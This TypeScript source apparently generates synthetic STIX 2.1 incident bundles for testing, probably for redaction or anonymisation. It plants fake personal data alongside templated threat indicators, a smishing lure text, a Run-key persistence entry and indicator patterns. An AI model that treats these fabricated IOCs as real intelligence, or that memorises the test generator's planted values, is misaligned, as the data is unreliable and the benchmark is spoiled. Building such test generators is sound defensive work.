const ocrText: Genre = (c, t, w) => {
  const cust = c.person();
  const acc = account(c, w);
  const bad = (s: string) => s.replace(/l/g, '|').replace(/o/g, '0').replace(/e/g, 'c');
  return [
    `${bad('Scanned letter')} ■■ p.1/2`,
    `${bad(c.L.words.customer)} :: ${c.name('customer', cust, w)}`,
    `${bad(c.L.words.address)} ; ${address(c, w).full}`,
    `${bad('Bank details')} ${c.enc(acc.text)}`,
    `-- ${bad('the device')} ${c.device} ${bad('contacted')} ${t.ips[1]} --`,
  ].join('\n');
};

const mixedNote: Genre = (c, t, w) => {
  const cust = c.person();
  const s = secretValue(c, w);
  return [
    `Analyst note (EN/${c.L.lang}): ${c.L.sentence.replace('{d}', c.device).replace('{c}', c.name('customer', cust, w))}`,
    `${c.L.words.phone}: ${phone(c, w)} / ${c.L.words.dob}: ${birthDate(c, w)}`,
    `Dumped config had ${s.label} ${s.text} and home dir ${homePath(c, username(c, cust, w), w)}.`,
    `Implant ${t.file} (${t.family}) exploited ${t.cve}; C2 ${t.c2}.`,
  ].join('\n');
};

const GENRES: [string, Genre][] = [
  ['mail-forward', emailForward], ['jira-csv', jiraExport], ['servicenow', serviceNow], ['whatsapp', whatsapp], ['telegram-json', telegram],
  ['siem-json', siemJson], ['netflow-csv', netflow], ['radius', radius], ['diameter', diameter], ['sip-invite', sipInvite],
  ['dhcp-leases', dhcpLeases], ['mqtt', mqtt], ['ocpp', ocpp], ['obd', obdLog], ['hl7', hl7], ['bacnet', bacnet],
  ['police-report', policeReport], ['insurance-claim', insurance], ['invoice', invoice], ['gdpr-letter', gdprLetter],
  ['markdown-table', markdownTable], ['base64', base64Payload], ['url-encoded-log', urlEncodedLog], ['ocr', ocrText], ['mixed-language', mixedNote],
];

const GENRE_BY_VERTICAL: Record<Vertical, string[]> = {
  carrier: ['radius', 'diameter', 'sip-invite', 'invoice', 'base64'],
  isp: ['dhcp-leases', 'netflow-csv', 'siem-json', 'url-encoded-log'],
  'device-maker': ['telegram-json', 'mqtt', 'siem-json', 'gdpr-letter'],
  utility: ['mqtt', 'ocr', 'invoice', 'gdpr-letter'],
  automotive: ['obd', 'insurance-claim', 'ocpp'],
  payment: ['invoice', 'police-report', 'url-encoded-log'],
  medical: ['hl7', 'servicenow', 'gdpr-letter'],
  building: ['bacnet', 'dhcp-leases', 'whatsapp'],
};

// ---- STIX assembly ----
/** An SCO with its deterministic id, or a random one for types without id-contributing properties (process). */
function sco(type: string, props: Record<string, unknown>, c?: Ctx): StixObject {
  const o: Record<string, unknown> = { type, spec_version: '2.1', ...props };
  return { ...(o as StixObject), id: deterministicObservableId(o) ?? `${type}--${c!.uuid()}` };
}

function quote(v: string): string {
  return `'${v.replace(/\\/g, '\\\\').replace(/'/g, "\\'")}'`;
}

type Base = (type: string) => StixObject;

/** Optional placements in other STIX objects and observables, each in some cases only. */
function extraObjects(c: Ctx, t: Threats, base: Base, reportRef: string, fromAddr: StixObject, toAddr: StixObject): StixObject[] {
  const r = c.r;
  const out: StixObject[] = [];
  if (r.chance(0.4)) {
    const cust = c.person();
    const contract = ref(c, 'contract', 'email-message.subject');
    out.push(sco('email-message', { is_multipart: false, from_ref: fromAddr.id, to_refs: [toAddr.id], subject: `${c.org.brand}: unpaid invoice ${contract}`,
      body: `Dear ${c.name('customer', cust, 'email-message.body', true)}, your ${c.device} contract ${contract} is suspended. Pay at ${t.url}` }));
  }
  if (r.chance(0.4)) {
    const cust = c.person();
    out.push({ ...base('opinion'), opinion: 'agree', object_refs: [reportRef], authors: [c.staff[1].full],
      explanation: `${c.L.words.customer} ${c.name('customer', cust, 'opinion.explanation')} (${phone(c, 'opinion.explanation')}) confirmed the calls to ${t.irsf}.` } as StixObject);
    c.threat('fraud:irsf', t.irsf, { kind: 'digits', value: digitsOf(t.irsf) }, 'opinion.explanation');
  }
  if (r.chance(0.35)) {
    const sn = serial(c, 'x509-certificate.subject');
    out.push(sco('x509-certificate', { serial_number: r.hex(16), issuer: `CN=${c.org.name} Device CA`, subject: `CN=${sn}, O=${c.org.name}, OU=${c.device}` }, c));
  }
  if (r.chance(0.3)) {
    const sid = `S-1-5-21-${r.int(1e9, 4e9)}-${r.int(1e9, 4e9)}-${r.int(1e9, 4e9)}-${r.int(1001, 1400)}`;
    c.plant('account:sid', sid, [{ kind: 'text', value: sid }], 'windows-registry-key.key');
    out.push(sco('windows-registry-key', { key: `HKEY_USERS\\${sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`, values: [{ name: 'updater', data: `C:\\ProgramData\\${t.file}`, data_type: 'REG_SZ' }] }, c));
  }
  if (r.chance(0.35)) {
    const u = c.person();
    const s = secretValue(c, 'process.command_line');
    out.push(sco('process', { command_line: `curl -H "Authorization: Bearer ${s.text}" https://${internalHost(c, 'process.command_line')}/api/devices?owner=${username(c, u, 'process.command_line')}`, pid: r.int(300, 30000) }, c));
  }
  if (r.chance(0.35)) {
    out.push({ ...base('grouping'), context: 'suspicious-activity', name: `${ref(c, 'ticket', 'grouping.name')} ${c.name('customer', c.person(), 'grouping.name')}`, object_refs: [reportRef],
      external_references: [{ source_name: 'ServiceNow', url: `https://${internalHost(c, 'grouping.external_references')}/nav_to.do?uri=incident.do?sys_id=${r.hex(32)}&customer=${ref(c, 'customer', 'grouping.external_references')}` }] } as StixObject);
  }
  return out;
}

export function generateCaseV10(seed: number, index: number): V10Case {
  const r = new Rng((seed * 2654435761 + index * 40503 + 1010) >>> 0);
  const L = V10_LOCALES[index % V10_LOCALES.length];
  const org = r.pick(L.orgs);
  const vertical = r.pick(org.v) as Vertical;
  const device = r.pick(DEVICE[vertical]);
  const c = new Ctx(r, L, org, vertical, device);
  c.staff.push(c.person(), c.person());
  for (const s of c.staff) c.plant('person:staff', s.full, c.nameForms(s), 'staff', [s.full]);
  const t = threats(c);
  c.attackerIps = t.ips;

  const day = `2024-${String(r.int(1, 9)).padStart(2, '0')}-${String(r.int(10, 28)).padStart(2, '0')}`;
  const ts = `${day}T${String(r.int(0, 23)).padStart(2, '0')}:${r.int(10, 59)}:${r.int(10, 59)}.${r.digits(3)}Z`;
  const identityId = `identity--${c.uuid()}`;
  const base: Base = (type) => ({ type, spec_version: '2.1', id: `${type}--${c.uuid()}`, created: ts, modified: ts, created_by_ref: identityId });
  const objects: StixObject[] = [];

  const s0mail = staffMail(c, c.staff[0]);
  c.plant('email:staff', s0mail, [{ kind: 'text', value: s0mail }], 'identity.contact_information');
  const submitter = { type: 'identity', spec_version: '2.1', id: identityId, created: ts, modified: ts, name: org.name, identity_class: 'organization', sectors: [SECTOR[vertical]], contact_information: `${c.staff[0].full} <${s0mail}>, ${phone(c, 'identity.contact_information', 'intl')}` } as StixObject;
  objects.push(submitter);

  // Free-text genres: the vertical's own and one or two from anywhere.
  const chosen = new Set<string>([r.pick(GENRE_BY_VERTICAL[vertical]), r.pick(GENRE_BY_VERTICAL[vertical]), r.pick(GENRES)[0], r.pick(GENRES)[0]]);
  const texts = [...chosen].map((g) => ({ g, text: GENRES.find(([n]) => n === g)![1](c, t, g) }));

  // Observables: attacker ends, victim ends, the sample.
  const attackerIp = sco('ipv4-addr', { value: t.ips[0] });
  c.threat('attacker:ipv4', t.ips[0], { kind: 'sco', type: 'ipv4-addr', property: 'value', value: t.ips[0] }, 'observed-data ipv4-addr');
  const vip = victimIp(c, 'observed-data ipv4-addr', t.ips[0]);
  const victimAddr = sco('ipv4-addr', { value: vip });
  const traffic = sco('network-traffic', { src_ref: victimAddr.id, dst_ref: attackerIp.id, dst_port: r.pick([23, 2323, 7547, 48101]), protocols: ['tcp'] });
  const m = macAddr(c, 'observed-data mac-addr');
  const macSco = sco('mac-addr', { value: m.text.toLowerCase().replace(/[^0-9a-f]/g, '').match(/../g)!.join(':') });
  c.rendered.add(macSco.value as string);
  const eui = eui64Address(r, m.octets, `2a02:${r.hex(4)}:${r.hex(4)}:${r.hex(3)}0`);
  c.plant('network:eui64-ipv6', eui.text, eui.leak, 'observed-data ipv6-addr');
  const v6 = sco('ipv6-addr', { value: eui.text });
  const victim = c.person();
  const login = username(c, victim, 'observed-data user-account');
  const acct = sco('user-account', { user_id: login, account_login: login, display_name: c.name('customer', victim, 'observed-data user-account.display_name') });
  const victimMail = email(c, victim, 'observed-data email-addr');
  const toAddr = sco('email-addr', { value: victimMail });
  const fromAddr = sco('email-addr', { value: t.sender, display_name: `${org.brand} Billing` });
  c.threat('attacker:email', t.sender, { kind: 'sco', type: 'email-addr', property: 'value', value: t.sender }, 'observed-data email-addr');
  const file = sco('file', { name: t.file, hashes: { 'SHA-256': t.sha256, MD5: t.md5 } });
  c.threat('malware:sha256', t.sha256, { kind: 'hash', value: t.sha256 }, 'file.hashes');
  c.threat('malware:md5', t.md5, { kind: 'hash', value: t.md5 }, 'file.hashes');
  c.threat('malware:file-name', t.file, { kind: 'sco', type: 'file', property: 'name', value: t.file }, 'file.name');
  const urlSco = sco('url', { value: t.url });
  c.threat('attacker:url', t.urlBase, { kind: 'sco', type: 'url', property: 'value', value: t.urlBase }, 'url.value');
  const domSco = sco('domain-name', { value: t.c2 });
  c.threat('attacker:c2-domain', t.c2, { kind: 'sco', type: 'domain-name', property: 'value', value: t.c2 }, 'domain-name.value');
  const scos = [attackerIp, victimAddr, traffic, macSco, v6, acct, toAddr, fromAddr, file, urlSco, domSco];
  objects.push(...scos);
  const observed = { ...base('observed-data'), first_observed: ts, last_observed: ts, number_observed: r.int(1, 40), object_refs: scos.map((o) => o.id) } as StixObject;
  objects.push(observed);

  // Indicators: threat comparisons, some ANDed with victim values the submitter matched on.
  const ind1 = { ...base('indicator'), name: `${t.family} C2 seen from ${org.brand} fleet`, pattern_type: 'stix', valid_from: ts, indicator_types: ['malicious-activity'],
    pattern: `[network-traffic:dst_ref.value = ${quote(t.ips[1])} AND network-traffic:src_ref.value = ${quote(victimIp(c, 'indicator.pattern', t.ips[1]))}]` } as StixObject;
  c.threat('attacker:ipv4', t.ips[1], { kind: 'pattern', value: t.ips[1] }, 'indicator.pattern');
  const ind2 = { ...base('indicator'), name: 'Smishing lure', pattern_type: 'stix', valid_from: ts, indicator_types: ['malicious-activity'],
    pattern: `[email-message:from_ref.value = ${quote(t.sender)} AND email-message:to_refs[*].value = ${quote(email(c, c.person(), 'indicator.pattern'))}] OR [domain-name:value = ${quote(t.c2)}]` } as StixObject;
  c.threat('attacker:c2-domain', t.c2, { kind: 'pattern', value: t.c2 }, 'indicator.pattern');
  const ind3 = { ...base('indicator'), name: t.file, pattern_type: 'stix', valid_from: ts, indicator_types: ['malicious-activity'],
    pattern: `[file:hashes.'SHA-256' = ${quote(t.sha256)}] OR [url:value = ${quote(t.url)}] OR [ipv4-addr:value = ${quote(t.ips[2])}]` } as StixObject;
  c.threat('attacker:ipv4', t.ips[2], { kind: 'pattern', value: t.ips[2] }, 'indicator.pattern');
  c.threat('attacker:url', t.urlBase, { kind: 'pattern', value: t.urlBase }, 'indicator.pattern');
  objects.push(ind1, ind2, ind3);
  if (r.chance(0.5)) {
    // The submitter's own hunting rule: the C2 address and the victim device it was seen from.
    const ind4 = { ...base('indicator'), name: `Hunt: ${device} to ${t.family} C2`, pattern_type: 'stix', valid_from: ts, indicator_types: ['compromised'],
      pattern: `[ipv4-addr:value = ${quote(t.ips[0])}] AND [mac-addr:value = ${quote(macSco.value as string)}]`,
      description: `Seen from ${hostname(c, victim, 'indicator.description')} (${privIp(c, 'indicator.description')}), JA3 ${t.ja3}` } as StixObject;
    c.threat('attacker:ipv4', t.ips[0], { kind: 'pattern', value: t.ips[0] }, 'indicator.pattern');
    c.threat('tls:ja3', t.ja3, { kind: 'text', value: t.ja3 }, 'indicator.description');
    objects.push(ind4);
  }

  const malware = { ...base('malware'), name: t.family, is_family: true, malware_types: ['bot'], sample_refs: [file.id], description: `Dropper ${t.file} fetched from ${t.url}.` } as StixObject;
  c.threat('malware:family', t.family, { kind: 'name', type: 'malware', value: t.family }, 'malware.name');
  const actor = { ...base('threat-actor'), name: t.actor, threat_actor_types: ['crime-syndicate'] } as StixObject;
  c.threat('actor:name', t.actor, { kind: 'name', type: 'threat-actor', value: t.actor }, 'threat-actor.name');
  const vuln = { ...base('vulnerability'), name: t.cve, external_references: [{ source_name: 'cve', external_id: t.cve }] } as StixObject;
  c.threat('vuln:cve', t.cve, { kind: 'name', type: 'vulnerability', value: t.cve }, 'vulnerability.name');
  objects.push(malware, actor, vuln);

  // The customer as a sighting location and a location object.
  const custIdentity = { ...base('identity'), name: c.name('customer', c.person(), 'identity.name'), identity_class: 'individual', contact_information: phone(c, 'identity.contact_information', 'national') } as StixObject;
  const a = address(c, 'location.street_address');
  const lat = Number((r.int(-40, 60) + r.next()).toFixed(5)), lon = Number((r.int(-100, 140) + r.next()).toFixed(5));
  c.plant('location:coordinates', String(lat), [{ kind: 'text', value: String(lat) }], 'location.latitude');
  c.plant('location:coordinates', String(lon), [{ kind: 'text', value: String(lon) }], 'location.longitude');
  const loc = { ...base('location'), country: L.country, street_address: a.line, postal_code: a.postcode, latitude: lat, longitude: lon } as StixObject;
  const sighting = { ...base('sighting'), sighting_of_ref: ind1.id, where_sighted_refs: [custIdentity.id], first_seen: ts, last_seen: ts, count: r.int(1, 30), description: `${L.words.note}: ${serial(c, 'sighting.description')} / ${imei(c, 'sighting.description')}` } as StixObject;
  objects.push(custIdentity, loc, sighting);

  const rels = [
    { ...base('relationship'), relationship_type: 'indicates', source_ref: ind3.id, target_ref: malware.id },
    { ...base('relationship'), relationship_type: 'attributed-to', source_ref: malware.id, target_ref: actor.id } as StixObject,
    { ...base('relationship'), relationship_type: 'exploits', source_ref: malware.id, target_ref: vuln.id } as StixObject,
  ] as StixObject[];
  objects.push(...rels);

  // Free text: report description, notes with authors, and custom properties from the submitter's tooling.
  const ticket = ref(c, 'ticket', 'report.external_references');
  const host = internalHost(c, 'report.external_references');
  const shortKey = shortSlug(org) || 'org';
  const report = {
    ...base('report'), name: `${org.short}: ${device} compromise (${L.tag})`, published: ts, report_types: ['incident'],
    description: `${texts[0].text}\n\nIOCs: ${t.ips.join(', ')}; ${t.c2}; IRSF ${t.irsf}; smishing sender ${t.smish}.`,
    object_refs: objects.filter((o) => o.type !== 'identity' || o.id !== identityId).map((o) => o.id),
    external_references: [{ source_name: `${org.short} Jira`, url: `https://${host}/browse/${ticket}`, external_id: ticket }, { source_name: 'cve', external_id: t.cve }],
    labels: [`analyst:${c.staff[0].latin}`, vertical],
    [`x_${shortKey}_case_owner`]: c.staff[1].full,
    x_customer_number: ref(c, 'customer', 'report.x_customer_number'),
    x_site_contact: `${c.name('customer', c.person(), 'report.x_site_contact')} ${phone(c, 'report.x_site_contact')}`,
  } as StixObject;
  c.rendered.add(`analyst:${c.staff[0].latin}`);
  c.threat('fraud:irsf', t.irsf, { kind: 'digits', value: digitsOf(t.irsf) }, 'report.description');
  c.threat('fraud:smishing-sender', t.smish, { kind: 'digits', value: digitsOf(t.smish) }, 'report.description');
  c.threat('attacker:ipv4', t.ips[0], { kind: 'text', value: t.ips[0] }, 'report.description');
  objects.push(report);
  objects.push(...extraObjects(c, t, base, report.id, fromAddr, toAddr));
  texts.slice(1).forEach(({ g, text }) => {
    objects.push({ ...base('note'), abstract: `${g} excerpt`, content: text, authors: [r.chance(0.5) ? c.staff[0].full : c.staff[1].full], object_refs: [report.id] } as StixObject);
  });

  const profile: SubmitterProfile = {
    names: [org.name, org.short], domains: [org.domain], brands: r.chance(0.5) ? [org.brand] : [], country: L.country, languages: [L.lang], sectors: [SECTOR[vertical]],
    staff: r.chance(0.5) ? [c.staff[0].full] : [],
  };
  const identityForms: LeakForm[] = [{ kind: 'text', value: org.name }, { kind: 'text', value: org.domain }];
  if ([...org.short].length >= 3) identityForms.push({ kind: 'word', value: org.short });
  identityForms.push({ kind: 'word', value: org.brand });
  for (const s of c.staff) identityForms.push(...c.nameForms(s));
  for (const f of [org.name, org.domain, org.short, org.short.toLowerCase(), org.brand, shortKey]) c.rendered.add(f);

  const bundle: StixBundle = { type: 'bundle', id: `bundle--${c.uuid()}`, objects };
  return { index, lang: L.tag, device: `${vertical}/${device}`, bundle, profile, planted: c.planted, threats: c.threats, identity: identityForms, rendered: [...c.rendered] };
}
